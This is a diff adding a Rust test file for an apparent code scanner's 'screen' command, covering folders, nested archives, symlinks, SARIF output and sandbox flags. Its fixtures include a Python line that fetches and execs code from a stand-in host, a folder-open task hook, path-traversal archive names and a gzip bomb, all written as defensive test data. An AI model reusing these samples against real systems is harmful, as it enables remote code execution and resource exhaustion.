@@ -1,0 +1,215 @@
+//! `screen` on folders and archives, good and hostile: exit codes, what is listed as not inspected, and that nothing is run.
+
+use std::io::Write as _;
+use std::path::Path;
+
+use serde_json::Value;
+
+use crate::command::Desk;
+
+fn put(desk: &Desk, files: &[(&str, &str)]) {
+    for (name, text) in files {
+        let path = desk.dir.join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+}
+
+const BAD: &str = "import requests\nexec(requests.get('https://a.invalid/x').text)\n";
+const GOOD: &str = "print('hello')\n";
+
+fn missed(found: &Value) -> Vec<(String, String)> {
+    let list = found["not_inspected"].as_array().unwrap().iter();
+    list.map(|m| (m["file"].as_str().unwrap().to_owned(), m["reason"].as_str().unwrap().to_owned()))
+        .collect()
+}
+
+fn zip(path: &Path, members: &[(&str, &[u8])]) {
+    let mut writer = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
+    for (name, bytes) in members {
+        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
+        writer.write_all(bytes).unwrap();
+    }
+    writer.finish().unwrap();
+}
+
+fn tar_gz(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    let mut builder = tar::Builder::new(encoder);
+    for (name, bytes) in members {
+        let mut header = tar::Header::new_ustar();
+        header.set_size(bytes.len() as u64);
+        header.set_mode(0o644);
+        // Written as it is: a builder would refuse what a thief would not.
+        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        header.set_cksum();
+        builder.append(&header, *bytes).unwrap();
+    }
+    builder.into_inner().unwrap().finish().unwrap()
+}
+
+#[test]
+fn the_exit_code_is_the_worst_judgement() {
+    let desk = Desk::new();
+    let open = "{\"tasks\":[{\"command\":\"npm\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}";
+    put(
+        &desk,
+        &[
+            ("bad/main.py", BAD),
+            ("good/main.py", GOOD),
+            ("odd/.vscode/tasks.json", open),
+            ("part/main.py", GOOD),
+            ("part/index.js", "console.log(1)"),
+        ],
+    );
+    for (line, code, verdict) in [
+        ("screen bad", 10, "block"),
+        ("screen odd", 11, "review"),
+        ("screen part", 3, "incomplete"),
+        ("screen good", 0, "no_findings"),
+        ("screen odd --fail-on block", 0, "review"),
+        ("screen bad --fail-on block", 10, "block"),
+    ] {
+        let (found, json) = desk.run(line);
+        assert_eq!((found, &json["verdict"]), (code, &verdict.into()), "{line}: {json}");
+        assert_eq!(json["sandbox"]["seccomp"], true, "{line}");
+        assert!(json["sandbox"]["landlock_abi"].as_u64().unwrap() >= 1);
+        assert_eq!(json["tree_sha256"].as_str().unwrap().len(), 64);
+    }
+    // Of several paths the worst, a document each.
+    assert_eq!(desk.run("screen good part odd bad").0, 10);
+    assert_eq!(desk.run("screen good part odd").0, 11);
+    assert_eq!(desk.run("screen good part").0, 3);
+    assert_eq!(desk.run("screen nothing-there").0, 2);
+    let (code, json) = desk.run("screen good --no-sandbox");
+    assert_eq!((code, &json["sandbox"]["seccomp"]), (0, &false.into()));
+    // The finding has all that the contract names.
+    let finding = &desk.run("screen bad").1["findings"][0];
+    for member in [
+        "rule",
+        "title",
+        "severity",
+        "confidence",
+        "fires",
+        "blocks_by",
+        "file",
+        "line",
+        "column",
+        "excerpt",
+        "flow",
+        "attack",
+        "why",
+        "check",
+    ] {
+        assert!(!finding[member].is_null(), "{member}");
+    }
+    assert_eq!(finding["blocks_by"], "B1");
+}
+
+#[test]
+fn archives_are_read_in_memory_and_hostile_members_are_listed() {
+    let desk = Desk::new();
+    zip(&desk.dir.join("a.whl"), &[("app/main.py", BAD.as_bytes()), ("data.txt", b"x")]);
+    let (code, json) = desk.run("screen a.whl");
+    assert_eq!((code, &json["findings"][0]["file"]), (10, &"a.whl!/app/main.py".into()));
+    // An archive in an archive.
+    let inner = tar_gz(&[("pkg/main.py", BAD.as_bytes())]);
+    zip(&desk.dir.join("b.zip"), &[("inner.tgz", &inner)]);
+    assert_eq!(desk.run("screen b.zip").0, 10);
+    // Names that lead out, lengths that lie, bombs, what is no archive at all.
+    zip(
+        &desk.dir.join("c.zip"),
+        &[("../../climbs.py", GOOD.as_bytes()), ("ok.py", GOOD.as_bytes())],
+    );
+    let (code, json) = desk.run("screen c.zip");
+    assert_eq!((code, &missed(&json)[0].1[..]), (3, "a name that leads out"));
+    let climbs = tar_gz(&[("/absolute.py", GOOD.as_bytes()), ("../up.py", GOOD.as_bytes())]);
+    std::fs::write(desk.dir.join("d.tar.gz"), climbs).unwrap();
+    assert_eq!(missed(&desk.run("screen d.tar.gz").1).len(), 2);
+    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    for _ in 0..600 {
+        bomb.write_all(&[b'x'; 1 << 20]).unwrap();
+    }
+    std::fs::write(desk.dir.join("e.gz"), bomb.finish().unwrap()).unwrap();
+    let (code, json) = desk.run("screen e.gz");
+    assert_eq!((code, missed(&json)[0].1.as_str()), (3, "over a limit"));
+    std::fs::write(desk.dir.join("f.zip"), b"PK\x03\x04 and nothing more").unwrap();
+    assert_eq!(missed(&desk.run("screen f.zip").1)[0].1, "unreadable");
+    std::fs::write(desk.dir.join("g.tar.xz"), b"\xfd7zXZ\0 not read yet").unwrap();
+    assert_eq!(missed(&desk.run("screen g.tar.xz").1)[0].1, "unknown compression");
+}
+
+#[test]
+fn links_and_odd_files_of_a_folder_are_listed_and_not_followed() {
+    let desk = Desk::new();
+    put(&desk, &[("tree/main.py", GOOD), ("secret.py", BAD)]);
+    std::os::unix::fs::symlink("../secret.py", desk.dir.join("tree/link.py")).unwrap();
+    std::os::unix::fs::symlink("main.py", desk.dir.join("tree/inside.py")).unwrap();
+    let made = std::process::Command::new("mkfifo").arg(desk.dir.join("tree/pipe.py")).status();
+    assert!(made.unwrap().success());
+    let (code, json) = desk.run("screen tree");
+    let listed = missed(&json);
+    assert_eq!(code, 3);
+    assert!(listed.contains(&("link.py".into(), "a link that leads out".into())), "{listed:?}");
+    assert!(listed.contains(&("pipe.py".into(), "a device or pipe".into())), "{listed:?}");
+    assert_eq!(listed.len(), 2);
+}
+
+#[test]
+fn code_that_is_hostile_to_parsers_ends_in_an_entry() {
+    let desk = Desk::new();
+    let deep = format!("x = {}1{}\n", "f(".repeat(3_000), ")".repeat(3_000));
+    let sum = format!("x = {}\n", vec!["1"; 400_000].join("+"));
+    let long = format!("x = '{}'\n", "a".repeat(9 << 20));
+    put(
+        &desk,
+        &[("a/deep.py", &deep), ("a/sum.py", &sum), ("a/long.py", &long), ("a/bad.py", "def (:\n")],
+    );
+    let (code, json) = desk.run("screen a");
+    let listed = missed(&json);
+    assert_eq!(code, 3, "{json}");
+    for (file, reason) in [
+        ("deep.py", "code nested too deeply to be followed"),
+        ("sum.py", "code nested too deeply to be followed"),
+        ("long.py", "over a limit"),
+        ("bad.py", "unparsable source, line 1"),
+    ] {
+        assert!(listed.contains(&(file.to_owned(), reason.to_owned())), "{file}: {listed:?}");
+    }
+}
+
+#[test]
+fn sarif_names_rules_places_and_what_was_not_read() {
+    let desk = Desk::new();
+    put(&desk, &[("bad/main.py", BAD), ("bad/x.js", "1")]);
+    let output = std::process::Command::new(crate::command::EXE)
+        .args(["screen", "bad", "--format", "sarif"])
+        .current_dir(&desk.dir)
+        .output()
+        .unwrap();
+    let sarif: Value = serde_json::from_slice(&output.stdout).unwrap();
+    let run = &sarif["runs"][0];
+    assert_eq!((&sarif["version"], output.status.code()), (&"2.1.0".into(), Some(10)));
+    let result = &run["results"][0];
+    assert_eq!(
+        (&result["ruleId"], &result["level"]),
+        (&"network-to-interpreter".into(), &"error".into())
+    );
+    let region = &result["locations"][0]["physicalLocation"]["region"];
+    assert_eq!(region["startLine"], 2);
+    assert!(result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap().len() >= 2);
+    let rules: Vec<&str> = run["tool"]["driver"]["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["id"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains(&"network-to-interpreter"));
+    let notes = run["invocations"][0]["toolExecutionNotifications"].as_array().unwrap();
+    assert!(notes[0]["message"]["text"].as_str().unwrap().contains("x.js"));
+    // And the rules can be read.
+    let rule = desk.ok("screen rules network-to-interpreter");
+    assert_eq!(rule[0]["id"], "network-to-interpreter");
+    assert_eq!(desk.ok("screen rules").as_array().unwrap().len(), rules.len());
+    assert_eq!(desk.run("screen rules no-such-rule").0, 2);
+}
